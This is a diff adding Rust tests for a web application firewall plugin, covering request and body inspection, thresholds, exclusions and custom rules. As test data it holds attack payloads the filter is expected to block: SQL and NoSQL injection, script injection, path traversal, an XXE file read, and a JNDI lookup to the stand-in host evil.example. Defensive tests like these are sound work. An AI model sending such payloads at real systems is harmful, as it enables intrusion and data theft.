@@ -1,0 +1,127 @@
+//! The threshold, exclusions, own rules and bodies.
+
+use super::*;
+use plugin::testing::{errors, filter, get};
+use settings::node;
+
+/// The status of a request, and its body as the next filter sees it.
+fn inspected(settings: &Node, mut request: Request) -> (u16, String) {
+    let waf = filter(&KIND, settings);
+    match net::worker::block_on_local(waf.on_request(&mut request).resolve()) {
+        Step::Continue => {
+            let content = net::worker::block_on_local(request.body.collect(1 << 20)).unwrap();
+            (200, String::from_utf8_lossy(&content).into_owned())
+        }
+        Step::Fail(fault) => (fault.status, String::new()),
+        Step::Respond(response) => panic!("responded {}", response.status),
+    }
+}
+
+fn status(settings: &Node, target: &str, headers: &[(&str, &str)]) -> u16 {
+    inspected(settings, get(target, headers)).0
+}
+
+fn posted(settings: &Node, media_type: &str, body: &str) -> (u16, String) {
+    let mut request = get("/", &[("content-type", media_type)]);
+    request.body = Body::from(body.to_owned());
+    inspected(settings, request)
+}
+
+#[test]
+fn the_declaration_is_valid() {
+    settings::verify::<Waf>().unwrap();
+}
+
+#[test]
+fn every_part_of_a_request_is_inspected() {
+    let default = node!({});
+    for (target, headers, wanted) in [
+        ("/items?q=hello+world&page=2", &[][..], 200),
+        ("/?q=1'+or+'1'='1", &[], 403),
+        ("/?q=%253Cscript%253E", &[], 403),
+        ("/?a[$ne]=1", &[], 403),
+        ("/a/%2e%2e/%2e%2e/etc", &[], 403),
+        ("/.git/config", &[], 403),
+        ("/", &[("cookie", "a=1; b=<script>x</script>")], 403),
+        ("/", &[("referer", "${jndi:ldap://evil.example/a}")], 403),
+        ("/", &[("user-agent", "sqlmap/1.8")], 403),
+        ("/", &[("user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0")], 200),
+    ] {
+        assert_eq!(status(&default, target, headers), wanted, "{target} {headers:?}");
+    }
+    let many = format!("/?{}", "a&".repeat(PARAMETERS_MAX));
+    assert_eq!(status(&default, &many, &[]), 403);
+}
+
+#[test]
+fn bodies_are_inspected_and_stay_whole() {
+    let default = node!({});
+    for (media_type, body, wanted) in [
+        ("application/x-www-form-urlencoded", "q=1%27+or+%271%27%3D%271", 403),
+        ("application/json; charset=utf-8", r#"{"a":["x","<scr\u0069pt>"]}"#, 403),
+        ("application/json", r#"{"a":"<script>"#, 403),
+        ("application/json", r#"{"a":"' or","b":"1=1"}"#, 200),
+        ("text/xml", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/hostname'>]>", 403),
+        ("image/png", "<script>", 200),
+        ("text/plain", "An ordinary text -- with 'quotes', or so.", 200),
+    ] {
+        let (status, forwarded) = posted(&default, media_type, body);
+        assert_eq!(status, wanted, "{body}");
+        assert_eq!(forwarded, if wanted == 200 { body } else { "" });
+    }
+    let short = node!({ "body": "8B" });
+    let late = "12345678<script>";
+    assert_eq!(posted(&short, "text/plain", late), (200, late.to_owned()));
+    assert_eq!(posted(&node!({ "body": "0B" }), "text/plain", "<script>").0, 200);
+}
+
+#[test]
+fn the_threshold_and_exclusions_are_settings() {
+    let script = "/?html=<script>";
+    assert_eq!(status(&node!({ "threshold": 6 }), script, &[]), 200);
+    assert_eq!(status(&node!({ "log_only": true }), script, &[]), 200);
+    for (exclude, wanted) in [
+        (node!({ "rules": "xss" }), 200),
+        (node!({ "rules": ["xss-script"], "parameters": ["html"] }), 200),
+        (node!({ "rules": "xss", "parameters": ["other"] }), 403),
+        (node!({ "rules": "sql" }), 403),
+        (node!({ "rules": "xss", "when": { "header": "x-editor" } }), 403),
+    ] {
+        let settings = Node::made(settings::Value::Map(vec![(
+            settings::MapKey { name: "exclude".to_owned(), span: settings::Span::NOWHERE },
+            Node::made(settings::Value::List(vec![exclude.clone()])),
+        )]));
+        assert_eq!(status(&settings, script, &[]), wanted, "{exclude:?}");
+    }
+}
+
+#[test]
+fn own_rules_decide_first() {
+    let settings = node!({ "rules": [
+        { "when": { "header": "x-trusted" }, "action": "allow" },
+        { "when": { "query": "debug" }, "action": "reject", "status": 404 },
+    ] });
+    assert_eq!(status(&settings, "/?debug=1", &[]), 404);
+    assert_eq!(status(&settings, "/?debug=<script>", &[("x-trusted", "1")]), 200);
+    assert_eq!(status(&settings, "/?q=<script>", &[]), 403);
+    let only = node!({
+        "builtin": false, "rules": [{ "when": { "query": "debug" }, "action": "reject" }],
+    });
+    assert_eq!(status(&only, "/?q=<script>", &[]), 200);
+    assert_eq!(status(&only, "/?debug", &[]), 403);
+}
+
+#[test]
+fn errors_are_named() {
+    for (settings, why) in [
+        (node!({ "builtin": false }), "rejects nothing"),
+        (node!({ "exclude": [{ "rules": "sqlx" }] }), "there is no rule"),
+        (node!({ "exclude": [{ "rules": "xss-scrip" }] }), "xss-script"),
+        (node!({ "threshold": 0 }), "1"),
+        (node!({ "body": "2MiB" }), "1MiB"),
+        (node!({ "rules": [{ "when": { "query": "a" }, "action": "drop" }] }), "drop"),
+    ] {
+        let report = errors(&KIND, &settings);
+        assert!(report.contains(why), "{report}\nwanted {why}");
+    }
+}
